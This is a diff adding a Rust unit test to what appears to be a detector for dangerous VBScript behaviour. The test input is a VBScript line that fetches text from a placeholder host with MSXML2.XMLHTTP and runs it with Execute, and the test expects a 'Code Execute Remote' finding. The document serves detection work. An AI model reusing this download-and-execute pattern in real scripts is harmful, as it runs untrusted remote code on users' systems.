@@ -285,3 +285,13 @@ fn computations() {
         assert_eq!(found, format!("Command WScript.Shell.Run = {expected}"), "{source}");
     }
 }
+
+/// VBScript hands on variables themselves; what a property gives is only a value.
+#[test]
+fn properties_are_handed_on_by_value() {
+    let found = hits(
+        Language::VbScript,
+        "Set x = CreateObject(\"MSXML2.XMLHTTP\") : x.Open \"GET\", \"http://a.invalid/\", False : x.Send : Execute f(x.responseText)\nFunction f(b)\nf = b\nEnd Function",
+    );
+    assert!(found.iter().any(|hit| hit.starts_with("Code Execute Remote")), "{found:?}");
+}
